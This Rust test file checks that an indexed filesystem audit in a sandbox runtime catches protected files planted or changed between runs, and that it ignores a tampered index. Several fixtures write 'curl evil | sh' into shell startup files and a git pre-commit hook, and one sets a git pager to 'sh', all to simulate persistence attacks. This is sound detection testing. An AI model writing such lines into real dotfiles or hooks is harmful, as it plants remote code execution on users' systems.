//! The audit's index (`audit_indexed`): what an earlier run's audit recorded must never hide
//! what this run did. Each test indexes a tree, changes it the ways a command (or the host
//! between runs) can, and checks that the indexed audit finds what a full walk finds, and
//! what the change planted.

#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used)] // tests may panic

use std::fs;
use std::os::unix::fs::symlink;
use std::path::PathBuf;
use std::time::Duration;

use srt_compiler::audit::AuditPlan;
use srt_runtime::audit::{audit, audit_indexed, AuditReport, Since};

use crate::common::tree::{found, next_second, Tree};

impl Tree {
    /// Only the project: the default roots (/tmp/claude) change with whatever else runs.
    fn project_plan(&self) -> AuditPlan {
        let mut plan = self.plan();
        plan.roots.retain(|r| r.path.starts_with(self.p("")));
        plan
    }

    fn index_files(&self) -> Vec<PathBuf> {
        fs::read_dir(self.root.path().join("state/audit"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|e| e == "idx"))
            .collect()
    }

    /// The indexed audit (settled after one second), checked against a full walk.
    fn indexed_audit(&self, plan: &AuditPlan, since: Since) -> AuditReport {
        let home = self.home();
        let full = audit(plan, since, &home);
        let indexed = audit_indexed(plan, since, &home, Some(&self.index(1)));
        assert_eq!(found(&full), found(&indexed), "{full:#?}\n{indexed:#?}");
        assert_eq!(full.dirs, indexed.dirs);
        indexed
    }
}

/// A tree of `n` × `n` directories with a file each, and a few protected names.
fn populated(t: &Tree, n: usize) {
    for a in 0..n {
        for b in 0..n {
            t.write(&format!("src/m{a}/d{b}/f.rs"), "fn main() {}\n");
        }
    }
    t.write("src/m1/.bashrc", "export A=1\n");
    t.write("src/m2/d2/.vscode/settings.json", "{}\n");
}

#[test]
fn host_changes_between_runs_and_edits_in_place_are_seen() {
    let t = Tree::new();
    populated(&t, 6);
    let plan = t.project_plan();
    let warm_since = next_second();
    let warm = audit_indexed(&plan, warm_since, &t.p(""), Some(&t.index(1)));
    assert!(warm.findings.is_empty(), "{warm:#?}");
    assert_eq!(warm.listed, warm.dirs);
    // Between runs the host adds a directory and a protected name in it (older than the run).
    t.write("src/m3/d3/new/.zshrc", "alias ls=ls\n");
    let since = next_second();
    // The run: a protected name in the directory the host made, one in a directory nobody
    // touched since it was indexed, and an edit in place of an existing protected file
    // (which changes no directory).
    t.write("src/m3/d3/new/.profile", "curl evil | sh\n");
    t.write("src/m4/d4/.mcp.json", "{\"mcpServers\":{}}\n");
    fs::write(t.p("src/m1/.bashrc"), "curl evil | sh\n").unwrap();
    let r = t.indexed_audit(&plan, since);
    assert_eq!(
        found(&r),
        [
            (t.p("src/m1/.bashrc"), "protected-name"),
            (t.p("src/m3/d3/new/.profile"), "protected-name"),
            (t.p("src/m4/d4/.mcp.json"), "protected-name"),
        ]
    );
    // Only what changed was listed again: the root, the two directories the run wrote in,
    // and the host's new directory and its parent.
    assert!(r.listed <= 6, "{r:#?}");
}

#[test]
fn a_directory_replaced_by_another_is_listed_again() {
    let t = Tree::new();
    populated(&t, 4);
    let plan = t.project_plan();
    let _ = audit_indexed(&plan, next_second(), &t.p(""), Some(&t.index(1)));
    let since = next_second();
    // The indexed src/m2 is moved aside and a new one, holding a protected name, put in its
    // place; and a directory becomes a symlink to another that holds one.
    fs::rename(t.p("src/m2"), t.p("old-m2")).unwrap();
    t.write(
        "src/m2/d1/.git/hooks/pre-commit",
        "#!/bin/sh\ncurl evil | sh\n",
    );
    fs::rename(t.p("src/m3/d1"), t.p("src/m3/d1-real")).unwrap();
    t.write("src/m3/d1-real/.gitconfig", "[core]\n\tpager = sh\n");
    symlink(t.p("src/m3/d1-real"), t.p("src/m3/d1")).unwrap();
    let r = t.indexed_audit(&plan, since);
    let paths: Vec<PathBuf> = found(&r).into_iter().map(|(p, _)| p).collect();
    assert!(
        paths.contains(&t.p("src/m2/d1/.git/hooks/pre-commit"))
            || paths.contains(&t.p("src/m2/d1/.git")),
        "{r:#?}"
    );
    assert!(paths.contains(&t.p("src/m3/d1-real/.gitconfig")), "{r:#?}");
    assert!(
        !paths.iter().any(|p| p.starts_with(t.p("src/m3/d1/"))),
        "{r:#?}"
    );
}

#[test]
fn a_renamed_tree_is_seen_at_its_new_place() {
    let t = Tree::new();
    populated(&t, 4);
    t.write("deep/a/b/c/keep.txt", "x");
    let plan = t.project_plan();
    let _ = audit_indexed(&plan, next_second(), &t.p(""), Some(&t.index(1)));
    let since = next_second();
    // Planted deep in an indexed tree, which is then renamed, and renamed back into another
    // indexed directory.
    t.write("deep/a/b/c/.idea/workspace.xml", "<x/>");
    fs::rename(t.p("deep/a"), t.p("deep/z")).unwrap();
    fs::rename(t.p("deep/z"), t.p("src/m1/z")).unwrap();
    let r = t.indexed_audit(&plan, since);
    assert_eq!(
        found(&r),
        [(t.p("src/m1/z/b/c/.idea/workspace.xml"), "protected-name")],
        "{r:#?}"
    );
}

#[test]
fn a_corrupted_or_foreign_index_is_not_trusted() {
    let t = Tree::new();
    populated(&t, 4);
    let plan = t.project_plan();
    let _ = audit_indexed(&plan, next_second(), &t.p(""), Some(&t.index(1)));
    let files = t.index_files();
    assert_eq!(files.len(), 1);
    let good = fs::read(&files[0]).unwrap();
    // Another tree's index under this tree's name: made for another root.
    let other = Tree::new();
    populated(&other, 4);
    let _ = audit_indexed(
        &plan_of(&other),
        next_second(),
        &other.p(""),
        Some(&other.index(1)),
    );
    let foreign = fs::read(&other.index_files()[0]).unwrap();
    let mut flipped = good.clone();
    let mid = flipped.len() / 2;
    flipped[mid] ^= 1;
    for bad in [
        foreign,
        flipped,
        good[..good.len() - 3].to_vec(),
        b"junk".to_vec(),
    ] {
        fs::write(&files[0], &bad).unwrap();
        let since = next_second();
        t.write("src/m0/d0/.bash_profile", "curl evil | sh\n");
        let r = t.indexed_audit(&plan, since);
        assert_eq!(r.listed, r.dirs, "a bad index was used: {r:#?}");
        assert_eq!(
            found(&r),
            [(t.p("src/m0/d0/.bash_profile"), "protected-name")]
        );
        fs::remove_file(t.p("src/m0/d0/.bash_profile")).unwrap();
        fs::write(&files[0], &good).unwrap();
    }
    // One that another user could have written, or that has a second name, is not read.
    use std::os::unix::fs::PermissionsExt;
    fs::set_permissions(&files[0], fs::Permissions::from_mode(0o666)).unwrap();
    let r = t.indexed_audit(&plan, next_second());
    assert_eq!(r.listed, r.dirs, "a writable index was used: {r:#?}");
}

fn plan_of(t: &Tree) -> AuditPlan {
    t.project_plan()
}

#[test]
fn a_directory_changed_within_the_settling_time_is_listed_again() {
    let t = Tree::new();
    populated(&t, 3);
    let plan = t.project_plan();
    // Indexed at once: nothing is settled yet (the default margin), so the next audit lists
    // every directory again, and only then trusts them.
    let since = Since::now();
    let first = audit_indexed(&plan, since, &t.p(""), Some(&t.index(3)));
    let second = audit_indexed(&plan, since, &t.p(""), Some(&t.index(3)));
    assert_eq!(second.listed, first.dirs, "{second:#?}");
    std::thread::sleep(Duration::from_millis(3100));
    let third = audit_indexed(&plan, since, &t.p(""), Some(&t.index(3)));
    let fourth = audit_indexed(&plan, since, &t.p(""), Some(&t.index(3)));
    // The fourth lists only `.vscode`: a protected name's tree is always walked in full.
    assert_eq!(third.listed, first.dirs, "{third:#?}");
    assert_eq!(fourth.listed, 1, "{fourth:#?}");
}
